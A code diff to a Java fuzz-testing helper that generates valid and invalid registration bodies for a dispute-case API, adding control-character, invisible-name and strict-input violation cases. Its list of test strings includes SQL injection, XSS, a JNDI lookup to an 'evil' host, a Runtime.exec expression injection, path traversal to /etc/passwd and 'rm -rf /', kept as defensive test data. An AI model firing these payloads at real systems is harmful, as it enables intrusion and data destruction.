@@ -18,8 +18,8 @@ import com.fasterxml.jackson.databind.util.RawValue;
  * Generated request bodies for fuzzing the API, from one seeded {@link Random} so a failure
  * reproduces with its seed. Each body is either {@linkplain #refusedRegistration broken by construction}
  * (the API must answer 4xx and store nothing) or {@linkplain #acceptableRegistration valid but nasty}
- * (SQL, script and template fragments, control characters and emoji in free text: the API must store
- * them verbatim).
+ * (SQL, script and template fragments, emoji and line breaks in free text: the API must store them
+ * verbatim). {@linkplain #strictInputViolation Strict-input violations} are refused naming their field.
  */
 public final class FuzzInputs {
 
@@ -30,7 +30,7 @@ public final class FuzzInputs {
             "'; DROP TABLE dispute_case; --", "\" OR \"1\"=\"1", "1' UNION SELECT password_hash FROM app_user --",
             "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil/x}",
             "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}", "%s%s%s%n", "../../../../etc/passwd",
-            "\\u0000\\\\", "\u0000nul", "\u202Eright-to-left", "😀🏳️‍🌈𠀋", "\r\n\tline\nbreaks", "NULL", "null",
+            "\\u0000\\\\", "😀🏳️‍🌈𠀋", "NULL", "null", "\u200B零宽空格之间\u200B",
             "' OR 1=1; UPDATE mediator SET active = 0; --", "\\'; SELECT SLEEP(5); --", "`rm -rf /`");
 
     private static final List<String> TOP_FIELDS = List.of("type", "source", "countyCode", "township", "village",
@@ -44,13 +44,26 @@ public final class FuzzInputs {
 
     private final Random random;
 
+    /** Text that one-line fields refuse: control characters (NUL, DEL, line breaks) and bidirectional controls. */
+    public static final List<String> CONTROL_TEXT = List.of("\u0000nul", "a\u0007bell", "\u202Eright-to-left",
+            "\u202Aembedded", "\u2066isolate", "del\u007F", "\u001B[31m", "two\nlines", "tab\tbed", "\u0085next");
+
+    /** Names with nothing to see: zero-width spaces, a word joiner, blanks of other scripts. */
+    public static final List<String> INVISIBLE_NAMES = List.of("\u200B", "\u200B\u200B\u200B", "\u2060\uFEFF",
+            "\u3000\u200B", "\u3164", "\u200C\u200D", "\u00A0\u2800");
+
+    /** A body the API must refuse, and the field its first problem must name. */
+    public record Violation(String body, String field) {
+    }
+
     public FuzzInputs(long seed) {
         this.random = new Random(seed);
     }
 
     /** A registration the API must refuse: malformed JSON, a wrong type, a missing field, an unknown code, too long… */
     public String refusedRegistration() {
-        return switch (random.nextInt(10)) {
+        return switch (random.nextInt(11)) {
+            case 10 -> strictInputViolation().body();
             case 0 -> malformedJson(Disputes.fisheryDisputeInLinghu().toString());
             case 1 -> wrongType();
             case 2 -> missingField();
@@ -67,10 +80,55 @@ public final class FuzzInputs {
     /** A valid registration whose free-text fields carry nasty but storable text. */
     public ObjectNode acceptableRegistration() {
         ObjectNode body = Disputes.fisheryDisputeInLinghu();
-        body.put("description", "鱼塘纠纷 " + nasty());
+        body.put("description", "鱼塘纠纷 " + nasty() + (random.nextBoolean() ? "\r\n\t第二行" : ""));
         body.put("village", truncate(nasty(), 64));
         Disputes.party(body, 1).put("name", truncate("钱" + nasty(), 100));
         return body;
+    }
+
+    /**
+     * A registration that only strict input refuses: a fractional count of people, a control
+     * character or a lone surrogate in free text, a name of invisible characters, a field given twice.
+     */
+    public Violation strictInputViolation() {
+        ObjectNode body = Disputes.fisheryDisputeInLinghu();
+        int party = random.nextInt(2);
+        String partyField = "parties[" + party + "].";
+        return switch (random.nextInt(6)) {
+            case 0 -> new Violation(body.put("peopleInvolved", random.nextInt(20) + 0.5).toString(), "peopleInvolved");
+            case 1 -> {
+                String[] fields = {"description", "village", "township"};
+                String field = pick(fields);
+                String text = pick(CONTROL_TEXT.toArray(String[]::new));
+                if (field.equals("description") && text.matches("two\nlines|tab\tbed")) {
+                    text = "\u0000" + text;
+                }
+                yield new Violation(body.put(field, body.get(field).asText() + text).toString(), field);
+            }
+            case 2 -> {
+                Disputes.party(body, party).put("name", "钱" + pick(CONTROL_TEXT.toArray(String[]::new)));
+                yield new Violation(body.toString(), partyField + "name");
+            }
+            case 3 -> {
+                Disputes.party(body, party).put("name", pick(INVISIBLE_NAMES.toArray(String[]::new)));
+                yield new Violation(body.toString(), partyField + "name");
+            }
+            case 4 -> {
+                // A lone surrogate can only be written as a JSON escape: as a Java char it is not UTF-8.
+                String surrogate = random.nextBoolean() ? "\\ud83d" : "\\ude00";
+                Disputes.party(body, party).put("name", "钱LONE");
+                yield new Violation(body.toString().replace("LONE", surrogate), partyField + "name");
+            }
+            default -> {
+                if (random.nextBoolean()) {
+                    yield new Violation(body.toString().replaceFirst("\\{", "{\"description\":\"先写的\","),
+                            "description");
+                }
+                String json = body.toString();
+                String role = party == 0 ? "\"role\":\"APPLICANT\"" : "\"role\":\"RESPONDENT\"";
+                yield new Violation(json.replace(role, role + ",\"name\":\"重名\""), partyField + "name");
+            }
+        };
     }
 
     /** A body for completing an acceptance task that the API must refuse. */
